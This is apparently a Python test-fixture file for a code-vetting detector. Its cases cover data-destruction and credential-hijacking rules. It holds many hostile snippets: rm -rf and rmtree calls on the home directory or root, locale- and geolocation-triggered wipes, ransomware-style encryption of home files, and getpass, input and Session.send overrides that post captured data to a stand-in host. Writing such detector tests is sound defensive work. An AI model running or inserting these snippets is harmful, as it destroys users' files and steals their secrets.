"""What C12 and C14 must see of prompts that are taken over, and of homes that are deleted or locked."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_W: Final = "import os, shutil, time, locale\nfrom pathlib import Path\n"
_ERASE: Final = "for r, _, f in os.walk(os.path.expanduser('~')):\n            os.remove(r)\n"
_LOCK: Final = (
    "import os\nfrom cryptography.fernet import Fernet\ndef f(k):\n"
    "    for r, _, fs in os.walk(os.path.expanduser('~')):\n"
    "        for n in fs:\n            open(n, 'wb').write(Fernet(k).encrypt(open(n, 'rb').read()))\n"
)
_POST: Final = "import getpass, requests, builtins\ndef g(*a):\n    requests.post('https://example.invalid', data=a)\n"

CASES: Final = (
    # Commands and calls that delete all that is there.
    Case("C14", "hit", "high", "import os\ndef f():\n    os.system('rm -rf ~')\n"),
    Case("C14", "hit", "high", 'rm -rf -- "$HOME"\n', "x.sh"),
    Case("C14", "hit", "high", f"{_W}shutil.rmtree('/')\n"),
    Case("C14", "hit", "high", f"{_W}def f():\n    shutil.rmtree(os.path.expanduser('~'))\n"),
    Case("C14", "evasion", "high", f"{_W}shutil.rmtree(os.environ['HOME'], ignore_errors=True)\n"),
    Case("C14", "evasion", "high", f"{_W}shutil.rmtree(os.getenv('HOME'))\n"),
    Case("C14", "twin", None, f"{_W}shutil.rmtree(os.environ['HOME'] + '/.demo')\nshutil.rmtree(os.environ['DEMO'])\n"),
    Case("C14", "hit", "high", "require('fs').rmSync(require('os').homedir(), {recursive: true})\n", "demo.js"),
    Case(
        "C14",
        "twin",
        None,
        f"{_W}os.system('rm -rf build ~/.cache/demo $HOME/.demo')\nos.system('rm -f ~')\n"
        "shutil.rmtree(os.path.expanduser('~/.demo'))\nshutil.rmtree(Path.home() / '.demo')\nshutil.rmtree()\n"
        "shutil.rmtree('/tmp/demo')\nshutil.rmtree(os.path.join(Path.home(), x))\n",
    ),
    Case(
        "C14",
        "twin",
        None,
        "rm -rf /var/lib/apt/lists/*\nfind / -name '*.pyc' -delete\nfind . -delete\nfind ~ -type f -empty -delete\n"
        'rm -rf "$HOME/.cache"\ndd if=x of=y.img\n',
        "x.sh",
    ),
    Case(
        "C14", "evasion", "high", "import subprocess as s\ns.run(['r' + 'm', '-r', '-f', '--no-preserve-root', '/'])\n"
    ),
    Case("C14", "evasion", "high", "import os\nos.popen('find $HOME -type f -print0 | xargs -0 -r shred -uvz')\n"),
    Case("C14", "evasion", "high", "import os\nos.system('del /F /Q /S \"%USERPROFILE%\\\\*\"')\n"),
    Case("C14", "evasion", "high", "Remove-Item -Recurse -Force $env:USERPROFILE\n", "x.ps1"),
    # Deleted, depending on where it runs, or at once.
    Case("C14", "hit", "high", f"{_W}def f():\n    if locale.getdefaultlocale()[0] == 'x':\n        {_ERASE}"),
    Case(
        "C14", "hit", "medium", f"{_W}try:\n        {_ERASE}except OSError:\n        pass\n".replace("        ", "    ")
    ),
    Case("C14", "twin", None, f"{_W}def f():\n    if os.path.exists('x'):\n        {_ERASE}"),
    Case(
        "C14",
        "twin",
        None,
        f"{_W}def f():\n    if time.timezone:\n        for r, _, f in os.walk(os.path.expanduser('~/.demo')):\n"
        "            os.remove(r)\n        for r in os.scandir(x):\n            os.remove(r)\n    os.walk()\n",
    ),
    Case("C14", "twin", None, f"{_W}def f():\n    if time.timezone:\n        print(*os.walk('/'))\n"),
    Case(
        "C14",
        "evasion",
        "high",
        f"{_W}def f():\n    if time.tzname[0] == 'X':\n        for p in Path.home().rglob('*'):\n"
        "            p.unlink()\n",
    ),
    Case(
        "C14",
        "evasion",
        "high",
        "import os, requests\ndef f(u):\n    if requests.get(u).json()['country_code'] == 'X':\n"
        "        for r, _, f in os.walk('/'):\n            os.unlink(r)\n",
    ),
    Case(
        "C14",
        "evasion",
        "high",
        "import os\ndef f(u):\n    if 'x' in os.environ.get('LANG'):\n        for r, _, f in os.walk('/home'):\n"
        "            os.unlink(r)\n",
    ),
    # Locked.
    Case("C14", "hit", "medium", _LOCK),
    Case("C14", "hit", "high", f"{_LOCK}            os.rename(n, n + '.x')\n"),
    Case("C14", "twin", None, _LOCK.replace("'~'", "'~/.demo'")),
    Case("C14", "twin", None, _LOCK.replace("Fernet(k).encrypt", "k.compress")),
    Case(
        "C14",
        "evasion",
        "high",
        "import os\nfrom Crypto.Cipher import AES as a\ndef f(k):\n    h = os.path.expanduser('~')\n"
        "    for r, _, fs in os.walk(h):\n        with open(r, 'rb+') as o:\n"
        "            o.write(a.new(k).encrypt(o.read()))\n"
        "        os.remove(r)\n",
    ),
    # What asks people, or others, is taken over.
    Case("C12", "hit", "high", f"{_POST}getpass.getpass = g\n"),
    Case("C12", "hit", "medium", f"{_POST}requests.Session.send = g\n"),
    Case("C12", "twin", None, "import getpass, os\nos.system('x')\ndef f(self):\n    getpass.getpass = self.ask\n"),
    Case("C12", "twin", None, "import requests\no = requests.post\ndef g(*a):\n    return o(*a)\nrequests.post = g\n"),
    Case("C12", "twin", None, f"{_POST}setattr(thing, 'input', g)\nsetattr(builtins, name, g)\nrequests.x = g\n"),
    Case("C12", "evasion", "high", f"{_POST}vars(getpass)['getpass'] = g\n"),
    Case("C12", "twin", None, f"{_POST}vars(getpass)[name] = g\nvars()['input'] = g\n"),
    Case("C12", "evasion", "high", f"{_POST}setattr(builtins, 'in' + 'put', g)\n"),
    Case(
        "C12",
        "evasion",
        "medium",
        "from requests import Session as S\nimport socket\ndef g(self, r):\n"
        "    socket.create_connection(('example.invalid', 1)).send(r.body)\nS.send = g\n",
    ),
)
